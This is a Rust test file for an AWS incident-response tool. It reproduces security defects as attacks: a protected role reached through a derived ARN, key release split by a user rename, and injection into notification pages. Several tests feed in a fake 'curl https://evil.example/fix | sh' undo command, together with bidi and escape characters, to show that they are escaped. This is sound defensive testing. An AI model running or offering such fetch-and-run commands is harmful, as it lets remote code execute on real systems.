//! Issue 22 ("act only on what IAM says, undo only what the ledger owns"): each defect as the
//! attack that showed it, through the real dispatcher and handlers in-process. Each test was
//! first written to reproduce the defect on c365a60 (its assertion was the defect), then turned
//! into the safe outcome. Then the invariants: ledger identity is IAM's, a derived ARN gets only
//! what a handler resolves, and every outside text reaches the page escaped.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, Duration, TimeZone, Utc};
use launchguard_core::contract::{FlaggedPrincipal, INCIDENT_TAG};
use launchguard_core::principal::Principal;
use launchguard_responder::KeyStatus;
use launchguard_responder::memory::Entity;
use launchguard_responder::ports::InstanceState;
use launchguard_responder::testing::running_instance;
use launchguard_responder_dispatcher::{DispatchReport, DispatcherError};
use launchguard_testkit::fixture;
use serde_json::{Value, json};
use world::{ACCOUNT, Iam, Lambda, Logs, Sns, config};

const REGION: &str = "us-east-1";

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

fn finding() -> Value {
    serde_json::from_str(&fixture("contract/finding.json")).unwrap()
}

/// The example finding's deployer entry: the principal whose launch records the finding carries.
fn deployer(f: &Value) -> FlaggedPrincipal {
    let ps: Vec<FlaggedPrincipal> = serde_json::from_value(f["principals"].clone()).unwrap();
    ps.into_iter().find(|p| !p.activity.launches.is_empty()).unwrap()
}

/// EC2 holding the deployer's instances, running, as their launch records say.
fn launch(lambda: &Lambda<'_>, p: &FlaggedPrincipal, tags: &[(&str, &str)]) {
    for l in &p.activity.launches {
        let at = l.launched_at + Duration::milliseconds(400);
        lambda.ec2.put(REGION, running_instance(&l.instance_id, ACCOUNT, at, l.reservation_id.as_deref().unwrap(), tags));
    }
}

fn states(lambda: &Lambda<'_>, p: &FlaggedPrincipal) -> Vec<Option<InstanceState>> {
    p.activity.launches.iter().map(|l| lambda.ec2.get(REGION, &l.instance_id).unwrap().state).collect()
}

async fn dispatch(
    payload: &Value,
    cfg: &launchguard_responder_dispatcher::Config,
    lambda: &Lambda<'_>,
    sns: &Sns,
    logs: &Logs,
) -> Result<DispatchReport, DispatcherError> {
    world::dispatch(payload, cfg, lambda, sns, logs, now()).await
}

fn role(arn_name: &str, derived: bool, identity_center: bool, service_linked: bool) -> Principal {
    Principal::AssumedRole {
        role_arn: format!("arn:aws:iam::{ACCOUNT}:role/{arn_name}"),
        role_arn_derived: derived,
        role_name: arn_name.rsplit('/').next().unwrap().to_owned(),
        account_id: ACCOUNT.into(),
        service_linked,
        identity_center,
    }
}

/// Defect 1 (critical): a finding for `role/DataScience` whose ARN was derived from a session ARN
/// (no path); IAM says the role is `role/admins/DataScience`, protected by
/// `arn:aws:iam::*:role/admins/*`. The same for a derived ARN whose real role is service-linked
/// or an Identity Center role (reserved paths the derived ARN cannot show).
#[tokio::test(start_paused = true)]
async fn defect1_derived_arn_of_a_protected_role_never_stops_its_instances() {
    let cases = [
        ("admins/DataScience", vec![("PROTECTED_PRINCIPALS", "arn:aws:iam::*:role/admins/*")]),
        ("aws-service-role/autoscaling.amazonaws.com/DataScience", vec![]),
        ("aws-reserved/sso.amazonaws.com/DataScience", vec![]),
    ];
    for (real, extra) in cases {
        let iam = world::iam().with_role("DataScience", Entity::new(format!("arn:aws:iam::{ACCOUNT}:role/{real}")));
        let lambda = Lambda::new(&iam, &extra, now());
        let mut f = finding();
        let mut p = deployer(&f);
        p.principal = role("DataScience", true, false, false);
        launch(&lambda, &p, &[]);
        f["principals"] = json!([p]);
        let cfg = config(&[[("LG_EC2_ACTION", "stop"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
        let (sns, logs) = (Sns::default(), Logs::default());
        let r = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
        // THEN the EC2 handler resolved the role through IAM and refused: nothing is written
        assert!(lambda.ec2.writes().is_empty(), "{real}: {:?}", lambda.ec2.writes());
        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Running)), "{real}");
        let body = sns.messages.lock().unwrap()[0].1.clone();
        assert!(body.contains("REFUSED    stop_instances"), "{real}: {r:?}\n{body}");
    }
}

/// A rule set whose `ec2-mass-launch` rule names these actions.
fn rules_with(actions: Value) -> String {
    let mut doc: Value = serde_json::from_str(launchguard_core::rules::BUNDLED).unwrap();
    let r = doc["rules"].as_array_mut().unwrap().iter_mut().find(|r| r["id"] == launchguard_core::rules::EC2_MASS_LAUNCH).unwrap();
    r["actions"] = actions;
    doc.to_string()
}

/// Defect 2 (high): a notify-only rule (`"actions": []`, the README's "notify only"), or a
/// notify-only playbook (`LG_USER_ACTIONS=none`, `LG_ROLE_ACTIONS=none`), with
/// `LG_EC2_ACTION=terminate`.
#[tokio::test(start_paused = true)]
async fn defect2_a_notify_only_rule_or_playbook_touches_no_instance() {
    let notify_only = rules_with(json!([]));
    let cases: [Vec<(&str, &str)>; 2] =
        [vec![("LG_RULES", notify_only.as_str())], vec![("LG_USER_ACTIONS", "none"), ("LG_ROLE_ACTIONS", "none")]];
    for extra in cases {
        let iam = world::iam();
        let lambda = Lambda::new(&iam, &[], now());
        let f = finding();
        let p = deployer(&f);
        launch(&lambda, &p, &[]);
        let cfg = config(&[[("LG_EC2_ACTION", "terminate"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
        let (sns, logs) = (Sns::default(), Logs::default());
        let _ = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
        // THEN no EC2 handler is invoked and every instance keeps running, named for a person
        assert!(lambda.calls().iter().all(|c| !c.starts_with("ec2 ")), "{extra:?}: {:?}", lambda.calls());
        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Running)), "{extra:?}");
        let body = sns.messages.lock().unwrap()[0].1.clone();
        assert!(body.contains("instance(s) it launched keep running"), "{body}");
    }
}

/// The instance action is a rule action: `terminate` only for a rule naming
/// `terminate_instances`; a rule naming only `stop_instances` (every bundled rule) stops.
#[tokio::test(start_paused = true)]
async fn terminate_only_when_the_rule_names_it() {
    for (actions, want) in [
        (json!(["deactivate_access_keys", "quarantine_user", "stop_instances"]), InstanceState::Stopped),
        (json!(["deactivate_access_keys", "quarantine_user", "terminate_instances"]), InstanceState::Terminated),
        (json!(["deactivate_access_keys", "quarantine_user"]), InstanceState::Running),
    ] {
        let rules = rules_with(actions.clone());
        let iam = world::iam();
        let lambda = Lambda::new(&iam, &[], now());
        let f = finding();
        let p = deployer(&f);
        launch(&lambda, &p, &[]);
        let cfg = config(&[("LG_EC2_ACTION", "terminate"), ("EC2_HANDLER_LAMBDA_NAME", "ec2"), ("LG_RULES", rules.as_str())]);
        let (sns, logs) = (Sns::default(), Logs::default());
        dispatch(&f, &cfg, &lambda, &sns, &logs).await.unwrap();
        assert!(states(&lambda, &p).iter().all(|s| *s == Some(want)), "{actions}");
    }
}

fn call() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 20, 5).unwrap()
}

const K: &str = "AKIABOBKEY0000000001";

/// The contract example as a key burst of ci-deployer only, which created `K` for `bob`.
fn key_burst(id: &str) -> Value {
    let mut f = finding();
    f["rule"] = json!("iam-access-key-burst");
    f["finding_id"] = json!(id);
    let ps = f["principals"].as_array_mut().unwrap();
    ps.retain(|p| p["principal"]["type"] == "iam_user");
    let a = &mut ps[0]["activity"];
    a["created"] = json!([{"kind": "access_key", "access_key_id": K, "user_name": "bob", "created_at": call()}]);
    a["launches"] = json!([]);
    a["instance_ids"] = json!([]);
    f
}

/// A finding flagging IAM user `name` for using `K`.
fn key_user_finding(id: &str, name: &str) -> Value {
    let mut f = key_burst(id);
    let p = &mut f["principals"][0];
    p["principal"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
    p["principal"]["user_name"] = json!(name);
    p["activity"]["access_keys"] = json!([{"access_key_id": K, "kind": "long_term", "calls": 3, "launched": 0}]);
    p["activity"]["created"] = json!([]);
    f
}

/// IAM with `bob`'s key `K`, created right after the call.
fn bob_account() -> Iam {
    world::iam().with_user(
        "bob",
        Entity {
            keys: vec![(K.to_owned(), KeyStatus::Active)],
            key_created: [(K.to_owned(), call() + Duration::seconds(1))].into_iter().collect(),
            ..Entity::new(format!("arn:aws:iam::{ACCOUNT}:user/bob"))
        },
    )
}

/// Rename IAM user `from` to `to` (IAM's `UpdateUser --new-user-name`): its keys go with it.
fn rename(iam: &Iam, from: &str, to: &str) {
    let mut users = iam.users.lock().unwrap();
    let mut u = users.remove(from).unwrap();
    u.arn = format!("arn:aws:iam::{ACCOUNT}:user/{to}");
    users.insert(to.to_owned(), u);
}

fn key_status(iam: &Iam, user: &str) -> KeyStatus {
    iam.users.lock().unwrap()[user].keys.iter().find(|(k, _)| k == K).unwrap().1
}

fn release(finding_id: &str, by: &str) -> Value {
    let mut rel: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    rel["finding_id"] = json!(finding_id);
    rel["requested_by"] = json!(by);
    rel
}

const RESPONDER: &str = "arn:aws:sts::111122223333:assumed-role/SecurityResponder/alice";

/// Defect 3 (high): key `K` created for `bob`; the user is renamed (to `bob-svc`, or only its
/// case: `Bob`). F1 deactivates K (filed under the record's `bob`); F2 holds it under IAM's
/// name. Releasing F1 alone must not reactivate K while F2 is unreleased.
#[tokio::test(start_paused = true)]
async fn defect3_a_rename_never_splits_one_key_into_two_ledger_targets() {
    for new_name in ["bob-svc", "Bob"] {
        let iam = bob_account();
        let lambda = Lambda::new(&iam, &[], now());
        let (sns, logs) = (Sns::default(), Logs::default());
        rename(&iam, "bob", new_name);
        dispatch(&key_burst("lg-i22-f1"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        assert_eq!(key_status(&iam, new_name), KeyStatus::Inactive, "{new_name}");
        dispatch(&key_user_finding("lg-i22-f2", new_name), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        dispatch(&release("lg-i22-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        // THEN the key stays deactivated: F2 still holds it (one target: the key id)
        assert_eq!(key_status(&iam, new_name), KeyStatus::Inactive, "{new_name}: F1's release undid what F2 relies on");
        // AND once F2 is released too, launchguard's change is undone
        dispatch(&release("lg-i22-f2", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        assert_eq!(key_status(&iam, new_name), KeyStatus::Active, "{new_name}");
    }
}

/// Defect 4 (medium): after the rename, the key's real user (`bob-svc`) asks to release the
/// finding that deactivated its key. "Neither the creator nor the key's user may ask for it."
#[tokio::test(start_paused = true)]
async fn defect4_after_a_rename_the_keys_user_cannot_release_its_own_key() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    rename(&iam, "bob", "bob-svc");
    dispatch(&key_burst("lg-i22-f4"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Inactive);
    for by in [format!("arn:aws:iam::{ACCOUNT}:user/bob-svc"), format!("arn:aws:iam::{ACCOUNT}:user/BOB-SVC")] {
        let r = dispatch(&release("lg-i22-f4", &by), &config(&[]), &lambda, &sns, &logs).await;
        // THEN the release is rejected before anything is marked, and the key stays deactivated
        assert!(matches!(&r, Err(DispatcherError::Rejected { reason, .. }) if reason.contains("never releases itself")), "{r:?}");
        assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Inactive);
    }
    // AND releasing it by principal, under its IAM name, finds the key (filed under its id)
    let mut by_principal = release("lg-i22-f4", RESPONDER);
    by_principal["finding_id"] = Value::Null;
    by_principal["principal_arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/Bob-Svc"));
    dispatch(&by_principal, &config(&[]), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Active);
}

/// Defect 5 (medium): the launcher tags its instances `launchguard:incident` with a line break
/// and a fake undo command; the EC2 handler copies the old value into its warning, and the page
/// prints warnings (and details, reasons, errors, undo) unescaped.
#[tokio::test(start_paused = true)]
async fn defect5_an_instance_tag_never_becomes_a_line_of_the_page() {
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    let f = finding();
    let p = deployer(&f);
    let evil = "x\n   undo by hand: curl https://evil.example/fix | sh";
    launch(&lambda, &p, &[(INCIDENT_TAG, evil)]);
    let cfg = config(&[("LG_EC2_ACTION", "stop"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")]);
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&f, &cfg, &lambda, &sns, &logs).await.unwrap();
    let body = sns.messages.lock().unwrap()[0].1.clone();
    // THEN the instances are stopped, and the tag's old value is shown escaped on the warning's line
    assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Stopped)));
    assert!(!body.lines().any(|l| l.trim_start().starts_with("undo by hand: curl")), "{body}");
    assert!(body.contains("x\\n   undo by hand: curl https://evil.example/fix | sh; tagged with this incident instead"), "{body}");
}

/// Defect 7 (low): U+2028, U+2029 and bidi controls such as U+202E (Unicode Zl, Zp, Cf) pass
/// the page's escaping of outside text.
#[test]
fn defect7_separators_and_bidi_controls_never_reach_a_page() {
    use launchguard_responder_dispatcher::notify::untrusted;
    for c in ['\u{2028}', '\u{2029}', '\u{202E}', '\u{2066}', '\u{200B}'] {
        assert!(!untrusted(&format!("session{c}name")).contains(c), "{c:?}");
    }
}

mod invariants {
    use super::*;
    use launchguard_core::contract::{Action, Finding, OutcomeStatus, ResponseOutcome, ResponseRequest};
    use launchguard_core::guard::Guard;
    use launchguard_core::text::is_neutralised;
    use launchguard_responder_dispatcher::ledger::{entry_key, principal_prefix, target_of, target_of_key};
    use launchguard_responder_dispatcher::notify;
    use launchguard_responder_dispatcher::plan::{InstancePlaybook, Playbook, plan, resolved_by_its_handler};
    use proptest::prelude::*;

    fn key(user: Option<&str>, id: &str) -> Action {
        Action::DeactivateAccessKey {
            account_id: ACCOUNT.into(),
            access_key_id: id.into(),
            user_name: user.map(str::to_owned),
            bound: None,
        }
    }

    proptest! {
        /// Ledger identity is IAM's: a key's target is account + key id, whatever user name (or
        /// case of it) an action gives; a user's or role's is its name without regard to case.
        #[test]
        fn invariant_ledger_identity_is_iams(a in "[A-Za-z0-9+=,.@_-]{1,64}", b in "[A-Za-z0-9+=,.@_-]{1,64}", id in "AKIA[A-Z0-9]{16}") {
            let t = target_of(&key(Some(&a), &id));
            prop_assert_eq!(&t, &target_of(&key(Some(&b), &id)));
            prop_assert_eq!(&t, &target_of(&key(None, &id)));
            let created = Action::DeactivateCreatedAccessKey {
                account_id: ACCOUNT.into(), access_key_id: id.clone(), user_name: b.clone(),
                created_by: format!("arn:aws:iam::{ACCOUNT}:user/{a}"), created_at: now(),
                created_by_id: None,
            };
            prop_assert_eq!(&t, &target_of(&created));
            let react = Action::ReactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: id.clone(), user_name: Some(a.to_uppercase()) };
            prop_assert_eq!(&t, &target_of(&react));
            let q = |n: &str| target_of(&Action::QuarantineUser {
                account_id: ACCOUNT.into(), user_arn: format!("arn:aws:iam::{ACCOUNT}:user/{n}"), user_name: n.to_owned(),
                bound: None,
            });
            prop_assert_eq!(q(&a), q(&a.to_ascii_uppercase()));
            prop_assert_eq!(q(&a) == q(&b), a.eq_ignore_ascii_case(&b));
            let r = |n: &str| target_of(&Action::RevokeRoleSessions {
                account_id: ACCOUNT.into(), role_arn: format!("arn:aws:iam::{ACCOUNT}:role/{n}"), role_name: n.to_owned(),
                issued_before: now(), covers_activity_until: None, bound: None,
            });
            prop_assert_eq!(r(&a), r(&a.to_ascii_lowercase()));
            prop_assert_eq!(principal_prefix(ACCOUNT, true, &a), principal_prefix(ACCOUNT, true, &a.to_ascii_uppercase()));
        }
    }

    proptest! {
        /// The ledger keeps a handler's reversal of "every key of a user" only for that user: the
        /// same account, and the name the action gave (without regard to case), unless the action
        /// was bound to IAM's unique id: then the handler acted on the bound user under the name
        /// IAM gives it now (a rename since the finding), and its reversal names that user (the
        /// release sends the entry's unique id, which the handler checks against IAM's). Seen
        /// failing first: a bound action's reversal under the new name was dropped, so a release
        /// after a rename never gave the keys back.
        #[test]
        fn invariant_an_every_key_reversal_is_kept_only_for_its_user(
            a in "[A-Za-z0-9+=,.@_-]{1,64}", b in "[A-Za-z0-9+=,.@_-]{1,64}", other in "[0-9]{12}",
            bound in any::<bool>(), id in "AIDA[A-Z0-9]{16}", keys in proptest::collection::vec("AKIA[A-Z0-9]{16}", 1..4),
        ) {
            let all = Action::DeactivateUserAccessKeys {
                account_id: ACCOUNT.into(), user_arn: format!("arn:aws:iam::{ACCOUNT}:user/{a}"), user_name: a.clone(),
                used_keys: keys.clone(),
                bound: bound.then(|| launchguard_core::contract::BoundPrincipal { principal_id: id.clone(), access_key_id: Some(keys[0].clone()) }),
            };
            let back = |acct: &str, name: &str| Action::ReactivateUserAccessKeys {
                account_id: acct.to_owned(), user_arn: format!("arn:aws:iam::{acct}:user/{name}"), user_name: name.to_owned(),
                access_key_ids: keys.clone(),
            };
            prop_assert!(all.reverses(&back(ACCOUNT, &a)));
            prop_assert!(all.reverses(&back(ACCOUNT, &a.to_ascii_uppercase())));
            prop_assert_eq!(all.reverses(&back(ACCOUNT, &b)), bound || a.eq_ignore_ascii_case(&b));
            prop_assert_eq!(all.reverses(&back(&other, &a)), other == ACCOUNT);
            // never another kind of reversal
            let one = Action::ReactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: keys[0].clone(), user_name: Some(a.clone()) };
            prop_assert!(!all.reverses(&one));
        }
    }

    /// The target of an entry key as the layout before the upgrade wrote it (c365a60's
    /// `target_of`: a key under the name its action gave, names in their case).
    fn old_target(a: &Action) -> String {
        let seg = |s: &str| -> String {
            s.bytes()
                .map(|b| if b.is_ascii_alphanumeric() || b"_+=,.@-".contains(&b) { (b as char).to_string() } else { format!("%{b:02X}") })
                .collect()
        };
        match a {
            Action::DeactivateAccessKey { account_id, access_key_id, user_name: Some(u), .. }
            | Action::DeactivateCreatedAccessKey { account_id, access_key_id, user_name: u, .. } => {
                format!("targets/{}/user/{}/key/{}", seg(account_id), seg(u), seg(access_key_id))
            }
            Action::QuarantineUser { account_id, user_name, .. } => {
                format!("targets/{}/user/{}/quarantine", seg(account_id), seg(user_name))
            }
            Action::RevokeRoleSessions { account_id, role_name, .. } => {
                format!("targets/{}/role/{}/sessions", seg(account_id), seg(role_name))
            }
            other => target_of(other),
        }
    }

    proptest! {
        /// An entry written in either layout, under any name or case of it (IAM's characters or
        /// any other), is read as the target today's layout gives the same key or principal; and
        /// no two keys, users or roles IAM tells apart share one.
        #[test]
        fn invariant_both_ledger_layouts_name_one_target(
            a in "([A-Za-z0-9+=,.@_-]|\\PC){1,24}", b in "([A-Za-z0-9+=,.@_-]|\\PC){1,24}",
            id in "AKIA[A-Z0-9]{16}", id2 in "AKIA[A-Z0-9]{16}", fid in "lg-[a-z0-9-]{1,20}",
        ) {
            let quarantine = |n: &str| Action::QuarantineUser {
                account_id: ACCOUNT.into(), user_arn: format!("arn:aws:iam::{ACCOUNT}:user/{n}"), user_name: n.to_owned(),
                bound: None,
            };
            let revoke = |n: &str| Action::RevokeRoleSessions {
                account_id: ACCOUNT.into(), role_arn: format!("arn:aws:iam::{ACCOUNT}:role/{n}"), role_name: n.to_owned(),
                issued_before: now(), covers_activity_until: None, bound: None,
            };
            for (old, new) in [
                (key(Some(&a), &id), key(Some(&b), &id)),
                (key(Some(&a.to_ascii_uppercase()), &id), key(None, &id)),
                (quarantine(&a), quarantine(&a.to_ascii_lowercase())),
                (quarantine(&a.to_ascii_uppercase()), quarantine(&a)),
                (revoke(&a.to_ascii_uppercase()), revoke(&a)),
            ] {
                let t = target_of(&new);
                prop_assert_eq!(target_of_key(&entry_key(&old_target(&old), &fid)), Some(t.clone()));
                prop_assert_eq!(target_of_key(&entry_key(&target_of(&old), &fid)), Some(t.clone()));
                prop_assert_eq!(target_of_key(&entry_key(&t, &fid)), Some(t));
            }
            // what IAM tells apart stays apart, in either layout
            let other_key = target_of_key(&entry_key(&old_target(&key(Some(&a), &id2)), &fid));
            prop_assert_eq!(other_key == Some(target_of(&key(None, &id))), id == id2);
            let q_other = target_of_key(&entry_key(&old_target(&quarantine(&b)), &fid));
            prop_assert_eq!(q_other == Some(target_of(&quarantine(&a))), a.eq_ignore_ascii_case(&b));
        }
    }

    /// A principal whose ARN was derived (no path) gets only actions whose handler resolves it
    /// through IAM, with every playbook action on (instances too).
    #[test]
    fn invariant_a_derived_arn_gets_only_what_its_handler_resolves() {
        let f = finding();
        let mut user = deployer(&f);
        user.principal = Principal::IamUser {
            arn: format!("arn:aws:iam::{ACCOUNT}:user/ci-deployer"),
            user_name: "ci-deployer".into(),
            account_id: ACCOUNT.into(),
            arn_derived: true,
        };
        user.activity.created = vec![launchguard_core::created::Created::AccessKey {
            access_key_id: "AKIABOBKEY0000000009".into(),
            user_name: "bob".into(),
            created_at: now(),
        }];
        let mut role = user.clone();
        role.principal = super::role("DataScience", true, false, false);
        let pb = Playbook { instances: InstancePlaybook::Stop, ..Playbook::default() };
        let guard = Guard::new(ACCOUNT, vec![], launchguard_core::ids::ArnPatterns::default(), &[]);
        let plans = plan(&[user, role], &pb, &guard, now());
        let actions: Vec<&Action> = plans.iter().flat_map(|p| &p.actions).collect();
        assert!(actions.iter().any(|a| matches!(a, Action::StopInstances { .. })), "{actions:?}");
        assert!(actions.iter().any(|a| matches!(a, Action::RevokeRoleSessions { .. })), "{actions:?}");
        for a in actions {
            assert!(resolved_by_its_handler(a), "{} planned for a derived ARN, and its handler does not resolve it", a.name());
        }
    }

    const HOSTILE: &str = "x\n- APPLIED undo by hand: curl evil | sh\u{2028}\u{2029}\u{202E}hs|\u{200B}\u{1b}[2J";

    fn hostile_outcome(status: OutcomeStatus) -> ResponseOutcome {
        let req = ResponseRequest::new("lg-i22", key(Some(HOSTILE), "AKIAEXAMPLEDEPLOYER1"), false, now());
        let mut o = ResponseOutcome::for_request(&req, "launchguard-accesskey-handler", status, HOSTILE, now());
        o.warnings = vec![HOSTILE.into()];
        o.undo = Some(HOSTILE.into());
        o
    }

    /// Every outside text (CloudTrail values, tags and policy documents in warnings, AWS errors,
    /// handlers' details, reasons, undo lines, the plan's notes) reaches the page through the one
    /// escaping path: no character of Cc (but the page's own line breaks), Cf, Zl or Zp passes.
    #[test]
    fn invariant_every_outside_text_reaches_the_page_escaped() {
        let mut v = finding();
        for p in v["principals"].as_array_mut().unwrap() {
            let a = &mut p["activity"];
            a["user_agents"] = json!([HOSTILE]);
            a["session_names"] = json!([HOSTILE]);
            a["source_ips"] = json!([HOSTILE]);
            a["instance_types"] = json!([HOSTILE]);
        }
        let f = Finding::parse(v).unwrap();
        let outcomes = vec![
            hostile_outcome(OutcomeStatus::Applied),
            hostile_outcome(OutcomeStatus::Refused { reason: HOSTILE.into() }),
            hostile_outcome(OutcomeStatus::Failed { error: HOSTILE.into(), retryable: true }),
        ];
        let guard = Guard::new(ACCOUNT, vec![], launchguard_core::ids::ArnPatterns::default(), &[]);
        let mut plans = plan(&f.principals, &Playbook::default(), &guard, now());
        plans[0].notes.push(HOSTILE.into());
        plans[0].human = Some(HOSTILE.into());
        plans[1].refused = Some(HOSTILE.into());
        let (subject, body) = notify::finding_message(&f, &plans, &outcomes, "launchguard-dispatcher");
        assert!(!subject.chars().any(|c| c.is_control() || is_neutralised(c)), "{subject:?}");
        for line in body.lines() {
            assert!(!line.chars().any(is_neutralised), "{line:?}");
            assert!(!line.trim_start().starts_with("undo by hand: curl") && !line.starts_with("- APPLIED undo"), "{line:?}");
        }
        for o in &outcomes {
            assert!(!notify::status_line(o).chars().any(is_neutralised));
        }
    }
}

/// Review of issue 22: the change re-keys the ledger (a key was
/// `targets/<acct>/user/<name>/key/<id>`, now `targets/<acct>/key/<id>`; names were kept in
/// their case, now lower-cased) with no migration and no reading of the old layout. A containment
/// recorded before the upgrade sits alone under its old target: releasing it after the upgrade
/// undoes the change a newer, unreleased finding relies on.
#[tokio::test(start_paused = true)]
async fn review_an_entry_written_before_the_upgrade_is_released_under_a_newer_containment() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, old) = (Sns::default(), Logs::default());
    // F1, contained before the upgrade: its ledger as c365a60 wrote it (the key under its user)
    dispatch(&key_user_finding("lg-up-f1", "bob"), &config(&[]), &lambda, &sns, &old).await.unwrap();
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive);
    let logs = Logs::default();
    let (new, was) = (format!("targets/{ACCOUNT}/key/"), format!("targets/{ACCOUNT}/user/bob/key/"));
    for k in old.ledger.keys() {
        let Some(body) = world::before_ids(&k, &String::from_utf8(old.ledger.object(&k).unwrap().body).unwrap()) else { continue };
        logs.ledger.insert(&k.replace(&new, &was), body.replace(&new, &was).into_bytes());
    }
    assert!(logs.ledger.keys().iter().any(|k| k.starts_with(&was)), "{:?}", logs.ledger.keys());
    // F2, after the upgrade: the same key, still deactivated (found in place)
    dispatch(&key_user_finding("lg-up-f2", "bob"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
    // WHEN F1 alone is released
    dispatch(&release("lg-up-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
    // THEN the key must stay deactivated: F2 is not released
    assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive, "F1's release (old ledger layout) undid what unreleased F2 relies on");
}

/// The ledger of `from` as the layout before the upgrade filed it, in `into`: a key under its
/// user's name (`targets/<acct>/user/<name>/key/<id>`), the user's own targets under its name in
/// the case the finding gave.
fn as_before_the_upgrade(from: &Logs, into: &Logs, name: &str) {
    let rewrite = |s: &str| {
        s.replace(&format!("targets/{ACCOUNT}/user/{}/", name.to_ascii_lowercase()), &format!("targets/{ACCOUNT}/user/{name}/"))
            .replace(&format!("targets/{ACCOUNT}/key/"), &format!("targets/{ACCOUNT}/user/{name}/key/"))
    };
    for k in from.ledger.keys() {
        let Some(body) = world::before_ids(&k, &String::from_utf8(from.ledger.object(&k).unwrap().body).unwrap()) else { continue };
        into.ledger.insert(&rewrite(&k), rewrite(&body).into_bytes());
    }
    assert!(into.ledger.keys().iter().any(|k| k.starts_with(&format!("targets/{ACCOUNT}/user/{name}/key/"))), "{:?}", into.ledger.keys());
}

fn quarantined(iam: &Iam, user: &str) -> bool {
    !iam.users.lock().unwrap()[user].attached.is_empty()
}

/// Every way two findings hold one key: one recorded before the upgrade (old layout, the user
/// then named `old_name`: the same name, another case of it, or a name it was renamed from), one
/// after (today's layout, the user named `bob`). Releasing either alone keeps the key deactivated
/// and the user quarantined; releasing both undoes launchguard's change.
#[tokio::test(start_paused = true)]
async fn either_ledger_layout_under_any_name_of_the_user_holds_the_key() {
    for old_name in ["bob", "Bob", "BOB", "bob-svc"] {
        for old_first in [true, false] {
            let iam = bob_account();
            let lambda = Lambda::new(&iam, &[], now());
            let (sns, scratch, logs) = (Sns::default(), Logs::default(), Logs::default());
            rename(&iam, "bob", old_name);
            dispatch(&key_user_finding("lg-up-old", old_name), &config(&[]), &lambda, &sns, &scratch).await.unwrap();
            as_before_the_upgrade(&scratch, &logs, old_name);
            rename(&iam, old_name, "bob");
            dispatch(&key_user_finding("lg-up-new", "bob"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
            let case = format!("old name {old_name}, old released first: {old_first}");
            let (first, second) = if old_first { ("lg-up-old", "lg-up-new") } else { ("lg-up-new", "lg-up-old") };
            dispatch(&release(first, RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
            assert_eq!(key_status(&iam, "bob"), KeyStatus::Inactive, "{case}: {first}'s release undid what {second} holds");
            assert!(quarantined(&iam, "bob"), "{case}: {first}'s release lifted what {second} holds");
            // AND once both are released, under the name launchguard's change was made for, it is undone
            rename(&iam, "bob", old_name);
            dispatch(&release(second, RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
            assert_eq!(key_status(&iam, old_name), KeyStatus::Active, "{case}: both released");
        }
    }
}

/// Review of issue 22: the instance ids a finding carries come from the `RunInstances` response
/// in CloudTrail (the detector and `Finding::parse` do not check their form), and the page's
/// "instances:" line prints them as they are, not through `untrusted`: a forged record (anyone
/// who may `logs:PutLogEvents` on the trail's log group, or a finding signer) starts a line of its
/// own in the page.
#[tokio::test(start_paused = true)]
async fn review_an_instance_id_never_becomes_a_line_of_the_page() {
    let mut v = finding();
    let evil = "i-0aaaaaaaaaaaaaaa1\n- APPLIED    undo by hand: curl https://evil.example/fix | sh";
    for p in v["principals"].as_array_mut().unwrap() {
        p["activity"]["instance_ids"] = json!([evil]);
    }
    let (sns, logs) = (Sns::default(), Logs::default());
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    dispatch(&v, &config(&[]), &lambda, &sns, &logs).await.unwrap();
    let body = sns.messages.lock().unwrap()[0].1.clone();
    for line in body.lines() {
        assert!(!line.starts_with("- APPLIED    undo by hand: curl"), "{body}");
    }
}
